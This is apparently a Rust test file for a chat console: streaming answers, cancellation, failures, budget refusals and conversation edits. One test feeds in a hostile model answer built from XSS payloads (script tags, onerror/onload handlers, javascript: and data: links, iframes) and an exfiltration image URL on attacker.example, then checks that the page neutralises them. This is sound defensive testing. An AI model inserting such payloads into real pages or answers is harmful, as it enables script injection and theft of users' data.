//! Chat: conversations, and answers that people read while a model writes them.

use std::time::Duration;

use harness::{PASSWORD, Person, ingestion::Ingestion, model::Model};
use serde_json::{Value, json};
use sqlx::query;

use crate::site::Site;

/// The time of a word, so that a story can do something before the answer ends.
const WORD: Duration = Duration::from_millis(600);
const STATUSES: &str = "SELECT string_agg(status, ' ' ORDER BY id) FROM messages WHERE role = 'assistant'";

/// Somebody who signs in in a story.
fn person(person: &Person<'_>) -> Value {
    json!({ "email": person.email, "password": PASSWORD })
}

/// Serves the console with `model` as the only chat model.
async fn site_with(model: &Model) -> Site {
    Site::with_console_and(&[("CHAT_MODELS", model.name())]).await
}

/// Creates a conversation in the organization at `organization`. Returns its id.
async fn converse(person: &Person<'_>, organization: &str, title: Option<&str>) -> String {
    let new = json!({ "title": title });
    person.client.post(&format!("{organization}/conversations"), new).await.ok(201).id().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn answer_grows_while_it_is_written_and_its_citations_open_the_passages() {
    const TEXT: &str = "Backups are kept for 35 days. Monthly backups are kept for one year. Old backups are deleted with their keys.";
    let (ingestion, model) = (Ingestion::create().await, Model::default());
    let mut settings = ingestion.settings();
    settings.push(("CHAT_MODELS", model.name()));
    let site = Site::with_console_and(&settings).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    let artifact = json!({ "name": "Handbook", "text": TEXT });
    ada.client.post(&format!("{organization}/artifacts"), artifact).await.ok(201);
    ingestion.ingest(&site.app.database).await;
    model.delay(WORD).await;
    let given = json!({
        "organization": organization,
        "person": person(&ada),
        "question": "How long are backups kept?",
    });
    site.tell("console/chat-ask", &given).await;
    assert_eq!(site.app.database.value::<String>(STATUSES).await, "complete complete");
    let retrievals = "SELECT string_agg(retrieval, ' ' ORDER BY id) FROM messages WHERE role = 'assistant'";
    assert_eq!(site.app.database.value::<String>(retrievals).await, "hybrid none");
    let title = "SELECT title FROM conversations";
    assert_eq!(site.app.database.value::<String>(title).await, "How long are backups kept?");
}

#[tokio::test(flavor = "multi_thread")]
async fn answer_ends_when_it_is_stopped_or_left_and_not_before() {
    let model = Model::default();
    model.delay(Duration::from_secs(2)).await;
    let site = site_with(&model).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    let conversation = converse(&ada, &organization, Some("Weaving")).await;
    let given = json!({ "organization": organization, "conversation": conversation, "person": person(&ada) });
    site.tell("console/chat-stop", &given).await;
    assert_eq!(
        site.app.database.value::<String>(STATUSES).await,
        "cancelled complete cancelled complete cancelled"
    );
    // By the button, by the page that was left, and by the sign-out. Another tab and another page do not stop an answer.
    let cancelled =
        site.served().into_iter().filter(|(method, path, _)| method == "POST" && path.ends_with("/cancel"));
    assert_eq!(cancelled.count(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn page_says_why_an_answer_failed_and_asks_again() {
    // The fault, how many requests it meets, what the page says, and what it keeps of the text.
    let faults = [
        ("cut", 1, "The language model stopped in the middle of the answer.", "The sources do"),
        ("500", 2, "The language model could not be reached.", ""),
    ];
    let model = Model::default();
    let site = site_with(&model).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    for (fault, times, says, keeps) in faults {
        let conversation = converse(&ada, &organization, Some(fault)).await;
        model.fail(fault, Some(times)).await;
        let given = json!({
            "organization": organization,
            "conversation": conversation,
            "person": person(&ada),
            "says": says,
            "keeps": keeps,
        });
        site.tell("console/chat-failure", &given).await;
    }
    assert_eq!(site.app.database.value::<String>(STATUSES).await, "failed complete failed complete");
}

#[tokio::test(flavor = "multi_thread")]
async fn question_that_is_refused_stays_in_its_field() {
    let model = Model::default();
    let settings = [("CHAT_MODELS", model.name()), ("DEFAULT_PLAN", "free")];
    let site = Site::with_console_and(&settings).await;
    let app = &site.app;
    let (ada, bob) = (app.person("Ada").await, app.verified_person("Bob").await);
    let organization = ada.create_organization("Engines").await;
    ada.add(&organization, &bob, "member").await;
    let (owners, members) =
        (converse(&ada, &organization, None).await, converse(&bob, &organization, None).await);
    app.database
        .execute(
            "INSERT INTO token_budgets (organization_id, month, used)
             SELECT id, date_trunc('month', now() AT TIME ZONE 'UTC')::date, 199990 FROM organizations WHERE name = 'Engines'",
        )
        .await;
    let given = json!({
        "organization": organization,
        "owner": { "email": ada.email, "password": PASSWORD, "conversation": owners },
        "member": { "email": bob.email, "password": PASSWORD, "conversation": members },
    });
    site.tell("console/chat-refused", &given).await;
    assert_eq!(app.database.value::<i64>("SELECT count(*) FROM messages").await, 0);
    assert_eq!(model.seen().await.requests, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn person_renames_a_conversation_chooses_its_model_and_deletes_it() {
    let (first, second) = (Model::default(), Model::default());
    let models = format!("{},{}", first.name(), second.name());
    let site = Site::with_console_and(&[("CHAT_MODELS", models.as_str())]).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    let conversation = converse(&ada, &organization, None).await;
    site.app.database.execute("UPDATE conversations SET model = 'gpt-3'").await;
    let given = json!({
        "organization": organization,
        "conversation": conversation,
        "person": person(&ada),
        "models": [first.name(), second.name()],
    });
    site.tell("console/chat-edit", &given).await;
    let left = "SELECT count(*) FROM conversations WHERE deleted_at IS NULL";
    assert_eq!(site.app.database.value::<i64>(left).await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_answer_runs_and_loads_nothing() {
    const ANSWER: &str = r#"<script>window.ran = true</script>

<img src="https://attacker.example/a.png" onerror="window.ran = true">

![status](https://attacker.example/collect?q=secret) [this](javascript:window.ran=true) [1]

<iframe src="https://attacker.example/"></iframe><style>h1 { display: none }</style><a href="https://attacker.example/">away</a>

| <img src=x onerror="window.ran=true"> | <svg/onload="window.ran=true"> |
|---|---|
| [x](data:text/html,<script>window.ran=true</script>) | ![x](//attacker.example/b.png) |

[1]: https://attacker.example/"#;
    const TITLE: &str = "<img src=x onerror='window.ran = true'>";
    let model = Model::new("stub-inject");
    let site = site_with(&model).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    let conversation = converse(&ada, &organization, Some(TITLE)).await;
    let path = format!("{organization}/conversations/{conversation}/answers");
    ada.client.post(&path, json!({ "content": "What is a loom?" })).await.ok(201);
    query("UPDATE messages SET content = $1 WHERE role = 'assistant'")
        .bind(format!("{ANSWER}\n\n{}", "[".repeat(50_000)))
        .execute(site.app.database.pool())
        .await
        .expect("an answer");
    let texts = [
        "<script>window.ran = true</script>",
        "Image: status (https://attacker.example/collect?q=secret)",
        "this (javascript:window.ran=true)",
        "<iframe src=\"https://attacker.example/\">",
        "x (data:text/html,<script>window.ran=true</script>)",
    ];
    let given = json!({
        "organization": organization,
        "conversation": conversation,
        "person": person(&ada),
        "title": TITLE,
        "texts": texts,
    });
    site.tell("console/chat-hostile", &given).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn page_follows_an_answer_while_the_reader_is_at_its_end() {
    const STORED: usize = 40;
    let model = Model::default();
    let site = site_with(&model).await;
    let ada = site.app.person("Ada").await;
    let organization = ada.create_organization("Engines").await;
    let conversation = converse(&ada, &organization, Some("Weaving")).await;
    for _ in 0..STORED {
        let answer = site.app.begin_answer(&conversation).await;
        query("UPDATE messages SET status = 'complete', content = $2, finished_at = created_at WHERE id = $1::uuid")
            .bind(&answer)
            .bind("A loom weaves. ".repeat(100))
            .execute(site.app.database.pool())
            .await
            .expect("an answer");
    }
    model.delay(WORD).await;
    let given = json!({
        "organization": organization,
        "conversation": conversation,
        "person": person(&ada),
        "stored": STORED,
    });
    site.tell("console/chat-follow", &given).await;
}
